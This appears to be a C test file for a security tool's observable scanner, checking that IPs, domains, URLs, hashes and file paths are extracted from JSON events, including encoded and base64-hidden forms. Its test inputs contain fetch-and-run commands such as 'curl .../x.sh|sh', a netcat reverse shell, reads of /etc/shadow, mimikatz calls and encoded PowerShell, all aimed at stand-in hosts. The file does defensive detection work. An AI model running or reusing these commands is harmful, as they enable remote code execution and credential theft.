/* What is observed in an event, case by case, and what is not. */
#include "schema/event/observable.h"
#include "tests/support/test.h"

struct wanted {
    enum observable_kind kind;
    const char *normal;
    bool found;
    bool decoded;
};

static void look(void *context, const struct observable *observable)
{
    struct wanted *wanted = context;
    if (observable->kind == wanted->kind && span_is(observable->normal, wanted->normal)) {
        wanted->found = true;
        wanted->decoded = observable->decoded;
    }
}

static struct wanted observed(const char *json, const char *kind, const char *normal)
{
    struct wanted wanted = {.normal = normal};
    struct observable_scanner observer = OBSERVABLE_SCANNER_INIT;
    struct arena arena = ARENA_INIT;
    struct event event;
    EXPECT(observable_kind_find(span_str(kind), &wanted.kind));
    EXPECT(event_parse(span_str(json), 0, &arena, &event));
    EXPECT(observable_scan_event(&observer, &event, look, &wanted));
    observable_scanner_fini(&observer);
    arena_fini(&arena);
    return wanted;
}

struct observe_case {
    const char *json;
    const char *kind;
    const char *normal;
    bool is;
};

static void check(const struct observe_case *cases, size_t count)
{
    for (size_t i = 0; i < count; i++) {
        if (observed(cases[i].json, cases[i].kind, cases[i].normal).found != cases[i].is) {
            fprintf(stderr, "%s %s in %s should%s be observed\n", cases[i].kind, cases[i].normal,
                    cases[i].json, cases[i].is ? "" : " not");
            test_failures++;
        }
    }
}

#define CHECK_CASES(cases) check(cases, sizeof(cases) / sizeof(cases)[0])

TEST(addresses)
{
    static const struct observe_case cases[] = {
        {"{\"addr.remote\":\"203.0.113.9:4242\"}", "ip", "203.0.113.9", true},
        {"{\"addr.remote\":\"[2001:db8::1]:443\"}", "ip", "2001:0db8:0000:0000:0000:0000:0000:0001",
         true},
        {"{\"src_addr\":\"::ffff:203.0.113.9\"}", "ip", "203.0.113.9", true},
        {"{\"src_addr\":\"2001:DB8:0:0::1\"}", "ip", "2001:0db8:0000:0000:0000:0000:0000:0001",
         true},
        {"{\"src_addr\":\"fe80::1%eth0\"}", "ip", "fe80:0000:0000:0000:0000:0000:0000:0001", true},
        {"{\"a\":\"93.180.71.3\"}", "ip", "3.180.71.3", false},
        {"{\"a\":\"10.0.0.10\"}", "ip", "10.0.0.1", false},
        {"{\"a\":\"1.2.3.4.5\"}", "ip", "1.2.3.4", false},
        {"{\"a\":\"from 203.0.113.9, port 5\"}", "ip", "203.0.113.9", true},
        {"{\"a\":\"curl http://203.0.113.9/x.sh|sh\"}", "ip", "203.0.113.9", true},
        {"{\"a\":\"curl http://203.0.113.9:8080/x.sh|sh\"}", "ip", "203.0.113.9", true},
        {"{\"a\":\"curl http://[2001:db8::1]:80/\"}", "ip",
         "2001:0db8:0000:0000:0000:0000:0000:0001", true},
        {"{\"a\":\"dial tcp 203.0.113.9:22: refused\"}", "ip", "203.0.113.9", true},
        {"{\"a\":\"ssh root@203.0.113.9\"}", "ip", "203.0.113.9", true},
    };
    CHECK_CASES(cases);
}

TEST(names)
{
    static const struct observe_case cases[] = {
        {"{\"a\":\"ping EVIL.com.\"}", "domain", "evil.com", true},
        {"{\"a\":\"notevil.com\"}", "domain", "evil.com", false},
        {"{\"a\":\"x.evil.com\"}", "domain", "x.evil.com", true},
        {"{\"a\":\"https://evil.com/a\"}", "domain", "evil.com", true},
        {"{\"a\":\"https://u:p@evil.com:8443/a\"}", "domain", "evil.com", true},
        {"{\"a\":\"evil.com:8443\"}", "domain", "evil.com", true},
        {"{\"a\":\"to=evil.com;\"}", "domain", "evil.com", true},
        {"{\"user\":\"bob@evil.com\"}", "domain", "evil.com", true},
        {"{\"a\":\"/usr/bin/evil.sh\"}", "domain", "evil.sh", false},
        {"{\"a\":\"b\\u00fccher.example\"}", "domain", "xn--bcher-kva.example", true},
        {"{\"a\":\"10.0.0.1\"}", "domain", "10.0.0.1", false},
        {"{\"user\":\"Bob@Evil.COM\"}", "email", "bob@evil.com", true},
        {"{\"a\":\"mail xbob@evil.com now\"}", "email", "bob@evil.com", false},
        {"{\"a\":\"get HTTP://Evil.com:80/A?b=1#c\"}", "url", "http://evil.com/A?b=1", true},
        {"{\"a\":\"get http://evil.com/\"}", "url", "http://evil.com", true},
        {"{\"a\":\"(see http://evil.com/a).\"}", "url", "http://evil.com/a", true},
        {"{\"a\":\"http://evil.com/ab\"}", "url", "http://evil.com/a", false},
    };
    CHECK_CASES(cases);
}

TEST(others)
{
    static const struct observe_case cases[] = {
        {"{\"a\":\"D41D8CD98F00B204E9800998ECF8427E\"}", "hash", "d41d8cd98f00b204e9800998ecf8427e",
         true},
        {"{\"a\":\"/tmp/d41d8cd98f00b204e9800998ecf8427e\"}", "hash",
         "d41d8cd98f00b204e9800998ecf8427e", true},
        {"{\"a\":\"0d41d8cd98f00b204e9800998ecf8427e\"}", "hash",
         "d41d8cd98f00b204e9800998ecf8427e", false},
        {"{\"user\":\"alice\"}", "user", "alice", true},
        {"{\"a\":\"alice\"}", "user", "alice", false},
        {"{\"identity\":{\"user\":\"alice\"}}", "user", "alice", true},
        {"{\"participants\":[\"bob\",\"alice\"]}", "user", "alice", true},
        {"{\"sid\":\"AA0E4567-0000-4000-8000-000000000001\"}", "session",
         "aa0e4567-0000-4000-8000-000000000001", true},
        {"{\"serial_number\":\"d1:E5:fc\"}", "serial", "d1e5fc", true},
        {"{\"user_agent\":\"tsh/15.0.2 grpc-go/1.60.1\"}", "agent", "tsh/15.0.2 grpc-go/1.60.1",
         true},
        {"{\"path\":\"/etc/shadow\"}", "file", "/etc/shadow", true},
        {"{\"a\":\"cat '/etc/shadow';\"}", "file", "/etc/shadow", true},
        {"{\"a\":\"C:\\\\x\\\\mimikatz.exe -a\"}", "file", "C:\\x\\mimikatz.exe", true},
        {"{\"a\":1234}", "file", "1234", false},
        {"{\"command\":\"mimikatz x\"}", "file", "mimikatz", true},
        {"{\"command\":\"nc -e /bin/sh\"}", "file", "-e", false},
        {"{\"argv\":[\"-c\",\"nc 1.2.3.4\"]}", "file", "nc", true},
        {"{\"db_query\":\"SELECT a FROM b\"}", "file", "SELECT", false},
        {"{\"db_query\":\"COPY a FROM '/tmp/x.csv'\"}", "file", "/tmp/x.csv", true},
        {"{\"path\":\"/tmp/my file\"}", "file", "/tmp/my file", true},
        {"{\"expires\":\"2026-11-01T08:00:39.766Z\"}", "file", "2026-11-01T08:00:39.766Z", false},
        {"{\"uid\":\"d41d8cd98f00b204e9800998ecf8427e\"}", "hash",
         "d41d8cd98f00b204e9800998ecf8427e", false},
    };
    CHECK_CASES(cases);
}

#define HASH "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb1"

TEST(disguises)
{
    static const struct observe_case cases[] = {
        {"{\"a\":\"curl http://x.example/?u=https://evil.example/p\"}", "domain", "evil.example",
         true},
        {"{\"a\":\"curl http://x.example/?u=https://evil.example/p&b=1\"}", "url",
         "https://evil.example/p", true},
        {"{\"a\":\"curl http://x.example/?u=https://evil.example/p\"}", "url",
         "http://x.example/?u=https://evil.example/p", true},
        {"{\"a\":\"http://x.example/?u=https%3A%2F%2Fevil.example%2F\"}", "domain", "evil.example",
         true},
        {"{\"a\":\"u=https%253A%252F%252Fevil.example%252Fa\"}", "url", "https://evil.example/a",
         true},
        {"{\"a\":\"u=https%25253A%25252F%25252Fevil.example%25252Fa\"}", "url",
         "https://evil.example/a", false},
        {"{\"raw_query\":\"next=http%3A%2F%2F203.0.113.7%2Flogin\"}", "ip", "203.0.113.7", true},
        {"{\"a\":\"mallory%40evil.example\"}", "email", "mallory@evil.example", true},
        {"{\"a\":\"100%evil\"}", "domain", "evil", false},
        {"{\"a\":\"u LIKE '%evil.example%'\"}", "domain", "evil.example", true},
        {"{\"a\":\"u LIKE '%notevil.example%'\"}", "domain", "evil.example", false},
        {"{\"a\":\"{\\\"u\\\":\\\"http:\\\\/\\\\/evil.example\\\\/x\\\"}\"}", "url",
         "http://evil.example/x", true},
        {"{\"a\":\"wget http://h.example/a;sh a\"}", "url", "http://h.example/a", true},
        {"{\"a\":\"curl http://h.example/a&&sh\"}", "url", "http://h.example/a", true},
        {"{\"a\":\"x http://h.example/a,http://b.example/c\"}", "url", "http://h.example/a", true},
        {"{\"a\":\"x http://h.example/a,http://b.example/c\"}", "url", "http://b.example/c", true},
        {"{\"a\":\"x http://h.example/a,b\"}", "url", "http://h.example/a,b", true},
        {"{\"a\":\"x http://h.example/ab;c\"}", "url", "http://h.example/a", false},
        {"{\"path\":\"/tmp/" HASH ".bin\"}", "hash", HASH, true},
        {"{\"a\":\"cp a a_" HASH "\"}", "hash", HASH, true},
        {"{\"a\":\"x 0x" HASH "\"}", "hash", HASH, true},
        {"{\"a\":\"x 0x" HASH "0\"}", "hash", HASH, false},
        {"{\"a\":\"x y" HASH ".bin\"}", "hash", HASH, false},
        {"{\"headers\":{\"User-Agent\":[\"EvilAgent/7\"]}}", "agent", "EvilAgent/7", true},
        {"{\"headers\":{\"user_agent\":\"EvilAgent/7\"}}", "agent", "EvilAgent/7", true},
        {"{\"headers\":{\"X-User-Agent\":\"EvilAgent/7\"}}", "agent", "EvilAgent/7", false},
        {"{\"path\":\"C:\\\\x\\\\EVIL.EXE\"}", "file", "c:\\x\\evil.exe", true},
        {"{\"path\":\"/x/Evil.EXE\"}", "file", "/x/evil.exe", true},
        {"{\"path\":\"/x/Evil.EXE\"}", "file", "/x/Evil.EXE", true},
        {"{\"path\":\"/x/Evil.sh\"}", "file", "/x/evil.sh", false},
        {"{\"command\":\"nc -e /bin/sh 203.0.113.7\"}", "file", "nc -e /bin/sh 203.0.113.7", true},
    };
    CHECK_CASES(cases);
}

TEST(hidden_in_base64)
{
    /* curl http://203.0.113.9/x.sh | sh; once, twice, and as PowerShell writes it */
    struct wanted once = observed("{\"c\":\"echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveC5zaCB8IHNo|"
                                  "base64 -d\"}",
                                  "ip", "203.0.113.9");
    EXPECT(once.found && once.decoded);
    struct wanted twice = observed("{\"c\":\"echo WTNWeWJDQm9kSFJ3T2k4dk1qQXpMakF1TVRFekxqa3ZlQzV6"
                                   "YUNCOElITm8=\"}",
                                   "ip", "203.0.113.9");
    EXPECT(twice.found && twice.decoded);
    struct wanted wide =
        observed("{\"c\":\"powershell -enc aAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AYwBvAG0ALwBhAA==\"}",
                 "url", "http://evil.com/a");
    EXPECT(wide.found && wide.decoded);
    struct wanted open = observed("{\"c\":\"curl http://203.0.113.9/\"}", "ip", "203.0.113.9");
    EXPECT(open.found && !open.decoded);
}

TEST_MAIN(TEST_ENTRY(addresses), TEST_ENTRY(names), TEST_ENTRY(others), TEST_ENTRY(disguises),
          TEST_ENTRY(hidden_in_base64))
